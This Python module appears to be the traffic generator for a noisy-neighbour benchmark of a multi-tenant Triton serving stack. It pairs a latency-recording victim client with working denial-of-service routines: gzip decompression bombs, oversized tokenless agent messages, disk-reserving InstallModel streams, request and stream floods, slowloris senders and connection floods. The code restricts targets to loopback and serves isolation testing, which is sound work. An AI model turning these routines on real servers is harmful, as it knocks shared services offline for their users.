"""What the two tenants of `benchmarks/noisy_neighbour.py` send, each from a process of its own.

The victim (`run_victim`) calls its model through its own proxy at a steady rate with tritonclient
(REST and gRPC in turn) and records every request: when it was due, how long it took from then
(so a stall that delays the requests queued behind it counts against each of them), and its
error. The attacker (`run_attack`) sends one network attack from its pod's own address, straight
at the node's gateway or agent: inflate bombs (gRPC and REST), header-only InstallModel streams,
large messages to the agent with no token, a request flood, slow senders and a connection flood.

Each runs in its own process (`python -m benchmarks.noisy_traffic`, see `main`), so neither the
victim's clock nor its client threads share an interpreter lock with the attacker or with the
simulated cluster's threads. Every loop here stops at its deadline, at a bounded count, or when
told to stop (SIGTERM); every address it sends to must be in 127.0.0.0/8 (`loopback`). Only the
standard library, h2 (a test dependency, for gRPC messages the grpc library will not send:
pre-compressed, tokenless, from a chosen source address) and tritonclient; nothing of the product.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import json
import re
import resource
import signal
import socket
import struct
import sys
import threading
import time
import zlib
from collections import Counter
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events

LOOPBACK = ipaddress.ip_network("127.0.0.0/8")
MIB = 1024 * 1024
INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
AGENT_SERVICE = "/tritonshare.agent.v1.Agent/"
_REVEALED_RE = re.compile(r"only (\d+) are free")


def loopback(host_port: str) -> tuple[str, int]:
    """(host, port) of `host:port`; ValueError unless the host is in 127.0.0.0/8, so no byte of
    this benchmark can leave the machine."""
    host, _, port = host_port.rpartition(":")
    if ipaddress.ip_address(host) not in LOOPBACK:
        raise ValueError(f"{host_port}: this benchmark sends only to 127.0.0.0/8")
    return host, int(port)


def raise_open_files() -> int:
    """Raise this process's open-file limit to its hard limit (connection floods); the new soft
    limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def first_line(error: BaseException | str) -> str:
    text = str(error).strip().splitlines()
    return (text[0] if text else type(error).__name__)[:160]


# ---- the victim ------------------------------------------------------------------------------


@dataclass(frozen=True)
class VictimPlan:
    http: str
    """host:port of the victim's proxy (REST)."""
    grpc: str
    model: str
    rate: float
    """Requests per second, REST and gRPC in turn."""
    max_seconds: float
    workers: int = 8
    timeout: float = 10.0


Record = tuple[float, float, str]
"""(when the request was due, seconds from then to its answer, error or "")."""


def run_victim(plan: VictimPlan, stop: threading.Event) -> Any:
    """Send at `plan.rate` until `stop` or `plan.max_seconds`; the list of Records."""
    import numpy as np
    import tritonclient.grpc as grpcclient
    import tritonclient.http as httpclient

    loopback(plan.http)
    loopback(plan.grpc)
    records: list[Record] = []
    lock = threading.Lock()
    local = threading.local()
    data = np.array([[1.0, 2.0, 3.0, 4.0]], dtype=np.float32)

    def call(due: float, rest: bool) -> None:
        error = ""
        try:
            if rest:
                if not hasattr(local, "http"):
                    local.http = httpclient.InferenceServerClient(
                        plan.http, connection_timeout=plan.timeout, network_timeout=plan.timeout
                    )
                tensor = httpclient.InferInput("INPUT0", list(data.shape), "FP32")
                tensor.set_data_from_numpy(data)
                answer = local.http.infer(plan.model, [tensor]).as_numpy("OUTPUT0")
            else:
                if not hasattr(local, "grpc"):
                    local.grpc = grpcclient.InferenceServerClient(plan.grpc)
                tensor = grpcclient.InferInput("INPUT0", list(data.shape), "FP32")
                tensor.set_data_from_numpy(data)
                result = local.grpc.infer(plan.model, [tensor], client_timeout=plan.timeout)
                answer = result.as_numpy("OUTPUT0")
            if answer is None or not np.array_equal(answer, data + 1):
                error = f"wrong answer {answer!r}"
        except Exception as e:
            error = first_line(e)
            # A client whose connection broke is not reused.
            with contextlib.suppress(Exception):
                (local.__dict__.pop("http", None) if rest else local.__dict__.pop("grpc", None))
        with lock:
            records.append((due, time.monotonic() - due, error))

    started = time.monotonic()
    pool = ThreadPoolExecutor(plan.workers, thread_name_prefix="victim")
    try:
        for sent in range(int(plan.max_seconds * plan.rate) + 1):
            due = started + sent / plan.rate
            if stop.wait(max(due - time.monotonic(), 0.0)) or due - started > plan.max_seconds:
                break
            pool.submit(call, due, sent % 2 == 0)
    finally:
        # Requests still queued behind a stall when told to stop are not sent: they were due
        # after the last phase, and waiting for them could outlast the caller's patience.
        pool.shutdown(wait=True, cancel_futures=True)
    with lock:
        return list(records)


# ---- gRPC by hand (h2) -----------------------------------------------------------------------


def grpc_frame(message: bytes, compressed: bool = False) -> bytes:
    """A gRPC length-prefixed message."""
    return struct.pack(">?I", compressed, len(message)) + message


class GrpcCall:
    """One gRPC call on an HTTP/2 connection of its own from `source`, written with h2."""

    def __init__(
        self,
        source: str,
        target: str,
        path: str,
        headers: Iterable[tuple[str, str]] = (),
        timeout: float = 10.0,
    ) -> None:
        host, port = loopback(target)
        loopback(f"{source}:0")
        self.status = ""
        """grpc-status and grpc-message, or what ended the call otherwise ('' while open)."""
        self.sock = socket.create_connection((host, port), timeout, (source, 0))
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.conn.initiate_connection()
        self.stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(
            self.stream,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", target),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *headers,
            ],
        )
        self._flush()

    def _flush(self) -> None:
        data = self.conn.data_to_send()
        if not data:
            return
        try:
            self.sock.sendall(data)
        except OSError as e:  # the peer stopped reading, or closed
            self.status = self.status or f"sending failed ({first_line(e) or 'timed out'})"

    def send(self, data: bytes, end: bool, deadline: float) -> None:
        """Send `data` as flow control allows (reading the peer meanwhile); stop early if the
        call ends or the deadline passes."""
        view = memoryview(data)
        offset = 0
        while offset < len(view) and not self.status and time.monotonic() < deadline:
            window = min(
                self.conn.local_flow_control_window(self.stream), self.conn.max_outbound_frame_size
            )
            if window <= 0:
                self.read(deadline)
                continue
            chunk = bytes(view[offset : offset + window])
            offset += len(chunk)
            self.conn.send_data(self.stream, chunk, end_stream=end and offset == len(view))
            self._flush()
        if end and not view and not self.status:
            self.conn.end_stream(self.stream)
            self._flush()

    def wait(self, deadline: float) -> str:
        """Read until the call ends or the deadline; its status."""
        while not self.status and time.monotonic() < deadline:
            self.read(deadline)
        return self.status or "no answer before the attack's deadline"

    def read(self, deadline: float) -> None:
        """Handle what the peer sent, waiting for it at most until the deadline (and 1 s)."""
        self.sock.settimeout(max(min(deadline - time.monotonic(), 1.0), 0.01))
        try:
            data = self.sock.recv(1 << 16)
        except TimeoutError:
            return
        except OSError as e:
            self.status = f"connection error ({first_line(e)})"
            return
        if not data:
            self.status = self.status or "connection closed by the server"
            return
        for event in self.conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                fields = {
                    (k.decode() if isinstance(k, bytes) else k): (
                        v.decode() if isinstance(v, bytes) else v
                    )
                    for k, v in event.headers or ()
                }
                if "grpc-status" in fields:
                    self.status = f"{fields['grpc-status']} {fields.get('grpc-message', '')}"
            elif isinstance(event, h2.events.DataReceived):
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                self.status = self.status or f"stream reset (code {event.error_code})"
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.status = self.status or f"connection ended (GOAWAY {event.error_code})"
            elif isinstance(event, h2.events.StreamEnded) and not self.status:
                self.status = "stream ended without grpc-status"
        with contextlib.suppress(OSError):
            self._flush()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def grpc_unary(
    source: str,
    target: str,
    path: str,
    frame: bytes,
    headers: Iterable[tuple[str, str]],
    seconds: float,
) -> str:
    """One unary call; its status (grpc-status first, "0 " is OK)."""
    deadline = time.monotonic() + seconds
    try:
        call = GrpcCall(source, target, path, headers, timeout=seconds)
    except OSError as e:
        return f"connection refused ({first_line(e)})"
    try:
        call.send(frame, True, deadline)
        return call.wait(deadline)
    finally:
        call.close()


# ---- payloads --------------------------------------------------------------------------------


def gzip_of(prefix: bytes, padding: int, suffix: bytes, fill: bytes = b"\0") -> bytes:
    """gzip of prefix + `padding` bytes of `fill` + suffix, compressed a MiB at a time (never
    holding the inflated size)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(prefix)]
    block = fill * MIB
    left = padding
    while left > 0:
        parts.append(packer.compress(block[: min(left, MIB)]))
        left -= MIB
    parts.append(packer.compress(suffix))
    parts.append(packer.flush())
    return b"".join(parts)


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def grpc_bomb(model: str, inflated: int) -> bytes:
    """A gzip ModelInferRequest for `model` whose raw input is `inflated` zero bytes (its shape
    says 4 floats: Triton refuses it once inflated, so no inference of that size runs)."""
    from tritonclient.grpc import service_pb2

    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[1, 4])
    head = request.SerializeToString()
    number = service_pb2.ModelInferRequest.DESCRIPTOR.fields_by_name["raw_input_contents"].number
    head += _varint(number << 3 | 2) + _varint(inflated)
    return grpc_frame(gzip_of(head, inflated, b""), compressed=True)


def rest_bomb(model: str, inflated: int) -> bytes:
    """A gzip KServe infer request for `model`: a valid 4-float request padded with `inflated`
    spaces (whitespace JSON allows), so it is answered once inflated and parsed."""
    head = b'{"inputs":[{"name":"INPUT0","shape":[1,4],"datatype":"FP32","data":[1,2,3,4]}]'
    return gzip_of(head, inflated, b"}", fill=b" ")


# ---- HTTP/1.1 by hand (asyncio) --------------------------------------------------------------


def infer_request(model: str, body: bytes, extra: str = "") -> bytes:
    return (
        f"POST /v2/models/{model}/infer HTTP/1.1\r\nHost: triton\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n{extra}\r\n"
    ).encode() + body


SMALL_BODY = b'{"inputs":[{"name":"INPUT0","shape":[1,4],"datatype":"FP32","data":[1,2,3,4]}]}'


async def read_status(reader: asyncio.StreamReader) -> int:
    """Read one HTTP/1.1 response; its status code (its body is read and dropped)."""
    line = await reader.readline()
    if not line:
        raise ConnectionResetError("connection closed by the server")
    status = int(line.split()[1])
    length, chunked = 0, False
    for _ in range(256):
        header = await reader.readline()
        if header in (b"\r\n", b"\n", b""):
            break
        name, _, value = header.decode("latin-1").partition(":")
        if name.strip().lower() == "content-length":
            length = int(value.strip())
        elif name.strip().lower() == "transfer-encoding" and "chunked" in value.lower():
            chunked = True
    if chunked:
        for _ in range(1 << 20):
            size = int((await reader.readline()).split(b";")[0], 16)
            await reader.readexactly(size + 2)
            if size == 0:
                break
    elif length:
        await reader.readexactly(length)
    return status


async def _connect(source: str, target: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, port = loopback(target)
    return await asyncio.open_connection(host, port, local_addr=(source, 0))


# ---- the attacker ----------------------------------------------------------------------------


@dataclass(frozen=True)
class AttackPlan:
    kind: str
    source: str
    """The attacker pod's own address: every connection leaves from it."""
    seconds: float
    gateway_http: str = ""
    gateway_grpc: str = ""
    agent: str = ""
    model: str = ""
    """The attacker's own model id (what its pod may call)."""
    inflated_mib: int = 256
    concurrency: int = 2
    max_count: int = 1000
    message_mib: int = 32
    installs: tuple[tuple[str, str], ...] = ()
    """(model id, token) of each pod that holds an install stream open."""
    install_declare: int = 64 * 1024**3
    connections: int = 1000
    ready_file: str = ""
    """Created once the install streams are held (what the victim's probe waits for)."""


@dataclass
class AttackResult:
    sent: int = 0
    answers: Counter[str] = field(default_factory=Counter)
    notes: list[str] = field(default_factory=list)

    def summary(self, limit: int = 4) -> str:
        answers = ", ".join(f"{n}x {a}" for a, n in self.answers.most_common(limit))
        more = len(self.answers) - limit
        return "; ".join(
            [f"sent {self.sent}", *([f"answers: {answers}"] if answers else []), *self.notes]
        ) + (f" (+{more} other answers)" if more > 0 else "")


def run_attack(plan: AttackPlan, stop: threading.Event) -> Any:
    """Run one attack until `plan.seconds` or `stop`; its AttackResult's summary line."""
    raise_open_files()
    result = AttackResult()
    started = time.monotonic()
    try:
        ATTACKS[plan.kind](plan, stop, result)
    except Exception as e:  # the attack's own failure is a finding, not a crash of the run
        result.notes.append(f"the attack itself failed: {type(e).__name__}: {first_line(e)}")
    result.notes.append(f"{time.monotonic() - started:.1f} s")
    return result.summary()


def _until(plan: AttackPlan) -> float:
    return time.monotonic() + plan.seconds


def _repeat_in_threads(
    plan: AttackPlan, stop: threading.Event, result: AttackResult, one: Any, concurrency: int
) -> None:
    """Call `one()` (returns an answer) from `concurrency` threads until the deadline, `stop` or
    `plan.max_count` calls."""
    deadline = _until(plan)
    lock = threading.Lock()

    def worker() -> None:
        while time.monotonic() < deadline and not stop.is_set():
            with lock:
                if result.sent >= plan.max_count:
                    return
                result.sent += 1
            answer = one(deadline)
            with lock:
                result.answers[answer] += 1

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(concurrency)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(deadline - time.monotonic(), 0) + 30)


def attack_grpc_bomb(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    frame = grpc_bomb(plan.model, plan.inflated_mib * MIB)
    result.notes.append(
        f"{len(frame) / 1024:.0f} KiB inflating to {plan.inflated_mib} MiB, "
        f"{plan.concurrency} at once"
    )
    headers = [("grpc-encoding", "gzip"), ("grpc-accept-encoding", "identity,gzip")]

    def one(deadline: float) -> str:
        return grpc_unary(
            plan.source, plan.gateway_grpc, INFER_PATH, frame, headers, deadline - time.monotonic()
        )

    _repeat_in_threads(plan, stop, result, one, plan.concurrency)


def attack_rest_bomb(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    body = rest_bomb(plan.model, plan.inflated_mib * MIB)
    result.notes.append(
        f"{len(body) / 1024:.0f} KiB inflating to {plan.inflated_mib} MiB, "
        f"{plan.concurrency} at once"
    )
    request = infer_request(plan.model, body, "Content-Encoding: gzip\r\n")

    def one(deadline: float) -> str:
        async def exchange() -> str:
            reader, writer = await _connect(plan.source, plan.gateway_http)
            try:
                writer.write(request)
                await writer.drain()
                return f"HTTP {await read_status(reader)}"
            finally:
                writer.close()

        try:
            return asyncio.run(asyncio.wait_for(exchange(), deadline - time.monotonic() + 5))
        except (OSError, TimeoutError, ValueError, asyncio.IncompleteReadError) as e:
            return f"{type(e).__name__}: {first_line(e)}"

    _repeat_in_threads(plan, stop, result, one, plan.concurrency)


def attack_agent_messages(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    """GetModel requests of `message_mib` MiB (an unknown field pads them), with no token."""
    padding = plan.message_mib * MIB
    message = b"\x0a\x01x" + _varint(15 << 3 | 2) + _varint(padding) + bytes(padding)
    frame = grpc_frame(message)
    result.notes.append(f"{plan.concurrency} at once of {plan.message_mib} MiB, no token")

    def one(deadline: float) -> str:
        return grpc_unary(
            plan.source,
            plan.agent,
            AGENT_SERVICE + "GetModel",
            frame,
            (),
            deadline - time.monotonic(),
        )

    _repeat_in_threads(plan, stop, result, one, plan.concurrency)


def _install_stream(
    plan: AttackPlan, model: str, token: str, declare: int, deadline: float, result: AttackResult
) -> tuple[GrpcCall | None, int | None]:
    """Open an InstallModel stream for `model` declaring `declare` bytes and send only its
    header: the call if the agent still holds it open a second later, else None; and the free
    bytes its refusal revealed, if it did."""
    from protos import agent_pb2

    files = [
        agent_pb2.FileEntry(path="config.pbtxt", size=64, sha256="0" * 64),
        agent_pb2.FileEntry(path="1/model.onnx", size=max(declare - 64, 0), sha256="0" * 64),
    ]
    header = agent_pb2.InstallModelRequest(
        header=agent_pb2.InstallHeader(model_id=model, manifest=agent_pb2.Manifest(files=files))
    )
    call = GrpcCall(
        plan.source,
        plan.agent,
        AGENT_SERVICE + "InstallModel",
        [("authorization", f"Bearer {token}")],
    )
    result.sent += 1
    call.send(grpc_frame(header.SerializeToString()), False, deadline)
    # A refusal comes at once; a stream still open a moment later holds its room.
    settle = min(time.monotonic() + 1.0, deadline)
    while not call.status and time.monotonic() < settle:
        call.read(settle)
    if not call.status:
        return call, None
    call.close()
    result.answers[call.status[:90]] += 1
    revealed = _REVEALED_RE.search(call.status)
    if revealed and "the refusals revealed the node's free disk" not in result.notes:
        result.notes.append("the refusals revealed the node's free disk")
    return None, int(revealed.group(1)) if revealed else None


def attack_install_streams(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    """Per pod, an InstallModel stream that sends its header and nothing more, declaring as much
    as the agent lets it (halving on refusal, or exactly what a refusal reveals is free), held
    open until the deadline or `stop`. Where refusals reveal the free space, the last pod asks
    again every 0.1 s and the last stream held is reopened larger by what others' files freed
    meanwhile, as an attacker keeping the disk full would."""
    deadline = _until(plan)
    held: dict[str, tuple[GrpcCall, int]] = {}
    tokens = dict(plan.installs)
    revealing = False
    try:
        # The last pod (of two or more) is the spare that watches for freed space.
        fillers = plan.installs[:-1] if len(plan.installs) > 1 else plan.installs
        for model, token in fillers:
            declare = plan.install_declare
            for _ in range(40):
                if declare < MIB or time.monotonic() > deadline:
                    break
                call, revealed = _install_stream(plan, model, token, declare, deadline, result)
                if call is not None:
                    held[model] = (call, declare)
                    result.answers["held open"] += 1
                    break
                revealing = revealing or revealed is not None
                declare = revealed if revealed is not None and revealed < declare else declare // 2
        reserved = sum(declared for _, declared in held.values())
        result.notes.append(f"{len(held)} streams hold {reserved / 1024**3:.1f} GiB declared")
        if plan.ready_file:
            Path(plan.ready_file).touch()
        spare = next((m for m in tokens if m not in held), "")
        topups = 0
        while time.monotonic() < deadline and not stop.is_set():
            for call, _ in held.values():
                if not call.status:
                    call.read(time.monotonic() + 0.02)
            if revealing and spare and held:
                probe, freed = _install_stream(
                    plan, spare, tokens[spare], plan.install_declare, deadline, result
                )
                if probe is not None:  # room enough for a whole model: keep it too
                    held[spare], spare = (probe, plan.install_declare), ""
                elif freed:
                    last = list(held)[-1]
                    call, declared = held.pop(last)
                    call.close()
                    more, _ = _install_stream(
                        plan, last, tokens[last], declared + freed, deadline, result
                    )
                    if more is not None:
                        topups += 1
                        held[last] = (more, declared + freed)
            stop.wait(0.1)
        if topups:
            result.notes.append(f"{topups} top-ups")
        closed = [c.status for c, _ in held.values() if c.status]
        if closed:
            result.notes.append(f"the agent ended {len(closed)} held streams: {closed[0][:80]}")
    finally:
        for call, _ in held.values():
            call.close()


def attack_flood(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    """`concurrency` keep-alive connections, each sending small infer requests for the
    attacker's own model back to back, straight at the gateway."""
    request = infer_request(plan.model, SMALL_BODY)
    deadline = _until(plan)

    async def connection() -> None:
        for _ in range(plan.max_count):
            if time.monotonic() > deadline or stop.is_set() or result.sent >= plan.max_count:
                return
            try:
                reader, writer = await _connect(plan.source, plan.gateway_http)
            except OSError as e:
                result.answers[f"connect: {first_line(e)}"] += 1
                await asyncio.sleep(0.05)
                continue
            try:
                while time.monotonic() < deadline and result.sent < plan.max_count:
                    if stop.is_set():
                        return
                    result.sent += 1
                    writer.write(request)
                    await writer.drain()
                    result.answers[f"HTTP {await read_status(reader)}"] += 1
            except (OSError, ValueError, asyncio.IncompleteReadError) as e:
                result.answers[f"{type(e).__name__}"] += 1
            finally:
                writer.close()

    async def flood() -> None:
        tasks = [asyncio.create_task(connection()) for _ in range(plan.concurrency)]
        await asyncio.wait(tasks, timeout=plan.seconds + 10)
        for task in tasks:
            task.cancel()

    asyncio.run(flood())
    result.notes.append(f"{plan.concurrency} connections")


def stream_message(model: str) -> bytes:
    """One ModelStreamInfer request for `model` (add_one: INPUT0, FP32 [1, 4]), serialized."""
    data = struct.pack("<4f", 1, 2, 3, 4)
    tensor = (
        _field(1, b"INPUT0")
        + _field(2, b"FP32")
        + _varint(3 << 3 | 2)
        + _varint(2)
        + bytes([1, 4])  # shape, packed
    )
    return grpc_frame(_field(1, model.encode()) + _field(5, tensor) + _field(7, data))


def _field(number: int, value: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def attack_stream_flood(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    """One ModelStreamInfer stream straight at the gateway, `max_count` requests for the
    attacker's own model sent as fast as its windows allow, its answers read only when the
    window is shut (one call, counted once, where a per-message count counts each)."""
    deadline = _until(plan)
    call = GrpcCall(
        plan.source, plan.gateway_grpc, "/inference.GRPCInferenceService/ModelStreamInfer"
    )
    message = stream_message(plan.model)
    batch = message * 256
    try:
        while result.sent < plan.max_count and time.monotonic() < deadline and not stop.is_set():
            call.send(batch, False, deadline)
            if call.status:
                break
            result.sent += 256
        result.answers[call.status or "stream open at the deadline"] += 1
    finally:
        call.close()
    result.notes.append(f"{len(message)} B a request, one stream")


def attack_slow_senders(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    """`connections` connections that trickle a request a byte at a time: half its head, half
    (after a whole head) a body announced large; each held until the deadline."""
    deadline = _until(plan)
    head = infer_request(plan.model, b"", "").replace(
        b"Content-Length: 0", b"Content-Length: 1048576"
    )
    closed_early = 0

    async def trickle(number: int) -> None:
        nonlocal closed_early
        try:
            reader, writer = await _connect(plan.source, plan.gateway_http)
        except OSError as e:
            result.answers[f"connect: {first_line(e)}"] += 1
            return
        result.sent += 1
        try:
            if number % 2:
                writer.write(head)  # a whole head, then the body a byte at a time
                trickled: bytes = b" " * 1048576
            else:
                trickled = head
            for byte in range(len(trickled)):
                if time.monotonic() > deadline or stop.is_set():
                    result.answers["held to the end"] += 1
                    return
                writer.write(trickled[byte : byte + 1])
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    if await asyncio.wait_for(reader.read(1), 0.5) == b"":
                        closed_early += 1
                        result.answers["closed by the gateway"] += 1
                        return
                    result.answers["answered"] += 1
                    return
        except OSError:
            closed_early += 1
            result.answers["reset by the gateway"] += 1
        finally:
            writer.close()

    async def senders() -> None:
        tasks = [asyncio.create_task(trickle(n)) for n in range(plan.connections)]
        await asyncio.wait(tasks, timeout=plan.seconds + 10)
        for task in tasks:
            task.cancel()

    asyncio.run(senders())
    result.notes.append(f"{plan.connections} slow senders (a byte every 0.5 s)")


def attack_connections(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
    """Open `connections` connections (REST and gRPC ports in turn) and hold them idle."""
    deadline = _until(plan)
    held: list[socket.socket] = []
    try:
        for number in range(plan.connections):
            if time.monotonic() > deadline or stop.is_set():
                break
            target = plan.gateway_http if number % 2 == 0 else plan.gateway_grpc
            result.sent += 1
            try:
                held.append(socket.create_connection(loopback(target), 5, (plan.source, 0)))
            except OSError as e:
                result.answers[f"connect: {first_line(e)}"] += 1
        result.answers["opened"] += len(held)
        stop.wait(max(deadline - time.monotonic(), 0))
        closed = 0
        for sock in held:
            sock.setblocking(False)
            try:
                closed += sock.recv(1) == b""
            except BlockingIOError:
                continue
            except OSError:
                closed += 1
        result.notes.append(f"{closed} of {len(held)} were closed by the gateway while held")
    finally:
        for sock in held:
            sock.close()


ATTACKS = {
    "grpc-bomb": attack_grpc_bomb,
    "rest-bomb": attack_rest_bomb,
    "agent-messages": attack_agent_messages,
    "install-streams": attack_install_streams,
    "flood": attack_flood,
    "stream-flood": attack_stream_flood,
    "slow-senders": attack_slow_senders,
    "connections": attack_connections,
}


def main(argv: list[str] | None = None) -> int:
    """`python -m benchmarks.noisy_traffic victim|attack PLAN_JSON RESULT_FILE`: run one tenant's
    side until its plan's deadline or SIGTERM, then write its result (JSON) to RESULT_FILE."""
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 3 or args[0] not in ("victim", "attack"):
        print(
            "usage: python -m benchmarks.noisy_traffic victim|attack PLAN_JSON RESULT_FILE\n\n"
            "One tenant's side of benchmarks.noisy_neighbour, which starts it with its plan; run "
            "`python -m benchmarks.noisy_neighbour --help` instead.",
            file=sys.stderr,
        )
        return 2
    role, plan_json, result_file = args
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    fields = json.loads(plan_json)
    if role == "victim":
        result: Any = run_victim(VictimPlan(**fields), stop)
    else:
        fields["installs"] = tuple(tuple(pair) for pair in fields.get("installs", ()))
        result = run_attack(AttackPlan(**fields), stop)
    partial = Path(result_file + ".partial")
    partial.write_text(json.dumps(result))
    partial.replace(result_file)
    return 0


if __name__ == "__main__":
    sys.exit(main())
